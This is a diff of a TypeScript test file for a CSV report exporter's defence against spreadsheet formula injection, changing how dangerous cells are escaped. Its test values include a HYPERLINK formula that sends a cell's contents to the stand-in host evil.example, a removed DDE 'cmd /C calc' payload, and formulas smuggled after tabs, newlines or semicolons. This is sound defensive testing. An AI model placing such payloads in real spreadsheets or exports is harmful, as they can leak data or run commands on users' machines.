@@ -68,45 +68,71 @@ const text = fc.oneof(
 const cell = fc.option(text, { freq: 10 })
 const report = fc.record({ account_name: cell, dealer_name: cell, status: cell })
 
-/** What a cell must hold when it is read back. */
-function expected(value: string | null): string {
-  const [first = ''] = value ?? ''
-  if (value === null || !dangerous.includes(first)) return value ?? ''
-  return /^\+\d[\d ().-]{5,24}$/.test(value) ? value : `'${value}`
+/** What a spreadsheet shows for a cell: the value of a formula that joins literals, else the cell itself. */
+function shown(cell: string): string {
+  const literal = /"((?:[^"]|"")*)"|CHAR\((\d+)\)/g
+  if (!/^="/.test(cell)) return cell
+  expect(cell.slice(1).replaceAll(literal, '')).toMatch(/^&*$/)
+  const parts = Array.from(cell.matchAll(literal), ([, text, code]) =>
+    code === undefined ? (text ?? '').replaceAll('""', '"') : String.fromCharCode(Number(code)),
+  )
+  for (const part of parts) expect([...part].length).toBeLessThanOrEqual(200)
+  return parts.join('')
 }
 
-it('whatever the cells hold, an independent reader finds it in its place, and no formula [REPORT-13, REPORT-14]', async () => {
+/** Pieces that Excel takes for cells where its list separator is a semicolon and quotes are not at the start. */
+const piecesAtSemicolons = (csv: Buffer) =>
+  csv
+    .toString()
+    .replace('\uFEFF', '')
+    .split(/[;\t\r\n]/)
+
+it('whatever the cells hold, a spreadsheet shows just that, and runs no other formula [REPORT-13, REPORT-14]', async () => {
   await fc.assert(
     fc.asyncProperty(fc.array(report, { maxLength: 20 }), async (reports) => {
-      const [first, ...rows] = readCsv(await csvOf(reports))
+      const csv = await csvOf(reports)
+      const [first, ...rows] = readCsv(csv)
       expect(first).toEqual(headings)
-      expect(rows).toEqual(
+      expect(rows.map((cells) => cells.map(shown))).toEqual(
         reports.map(({ account_name, dealer_name, status }) => [
-          ...[expected(account_name), 'Knoxville', 'TN', expected(dealer_name), '', '', expected(status)],
+          ...[account_name ?? '', 'Knoxville', 'TN', dealer_name ?? '', '', '', status ?? ''],
         ]),
       )
+      for (const cell of rows.flat()) expect(cell).not.toMatch(/^\s*(=(?!")|[-+@＝＋－＠])/)
+      for (const piece of piecesAtSemicolons(csv))
+        expect(piece).not.toMatch(/^[\s"']*([-+@＝＋－＠]|=(?!""))/)
     }),
     { numRuns: 150 },
   )
 })
 
 it.each([
-  ['=HYPERLINK("http://evil.example?"&A1,"Click")', `'=HYPERLINK("http://evil.example?"&A1,"Click")`],
-  ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
-  ['-2+3', "'-2+3"],
-  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
-  ['\t=1+1', "'\t=1+1"],
-  ['\r=1+1', "'\r=1+1"],
-  ['＝1+1', "'＝1+1"],
-  ['+', "'+"],
-  ['+1 615 555 0100', '+1 615 555 0100'],
-  ['+49 (30) 555-0100', '+49 (30) 555-0100'],
-  ['+16155550100', '+16155550100'],
-  ['+1 615 555 0100=A1', "'+1 615 555 0100=A1"],
-  ['+1 615 555 0100\n=A1', "'+1 615 555 0100\n=A1"],
-  ['Baker, Finch & Sons', 'Baker, Finch & Sons'],
+  ['=1+1', '="=1+1"'],
+  ['=HYPERLINK("http://evil.example?"&A1,"Click")', '="=HYPERLINK(""http://evil.example?""&A1,""Click"")"'],
+  [';=1+1', '=""&CHAR(59)&"=1+1"'],
+  ['x\n=1+1', '="x"&CHAR(10)&"=1+1"'],
+  ['-2+3', '="-2+3"'],
+  ['@SUM(A1:A9)', '="@SUM(A1:A9)"'],
+  ['\t=1+1', '=""&CHAR(9)&"=1+1"'],
+  ['＝1+1', '="＝1+1"'],
+  ['+', '="+"'],
+  ['+615-555-0100', '="+615-555-0100"'],
+  ['+1 615 555 0100', '="+1 615 555 0100"'],
+  ['0012', '="0012"'],
+  ['1/2', '="1/2"'],
+  ['1E5', '="1E5"'],
+  ['12345678901234567890', '="12345678901234567890"'],
+  ['$1,000.50', '="$1,000.50"'],
+  ['TRUE', '="TRUE"'],
+  ['May 2020', '="May 2020"'],
+  ['3-Mar', '="3-Mar"'],
+  ['10:30 PM', '="10:30 PM"'],
+  ['3M Company', '3M Company'],
+  ['Maybe 3', 'Maybe 3'],
+  ['Baker, Finch & Sons; Paper', 'Baker, Finch & Sons; Paper'],
   ["'quoted'", "'quoted'"],
   ['A=B', 'A=B'],
+  ['True North Supply', 'True North Supply'],
 ])('the cell %j is written as %j [REPORT-13]', async (value, written) => {
   const [, row] = readCsv(await csvOf([{ account_name: null, dealer_name: value, status: null }]))
   expect(row?.[3]).toBe(written)
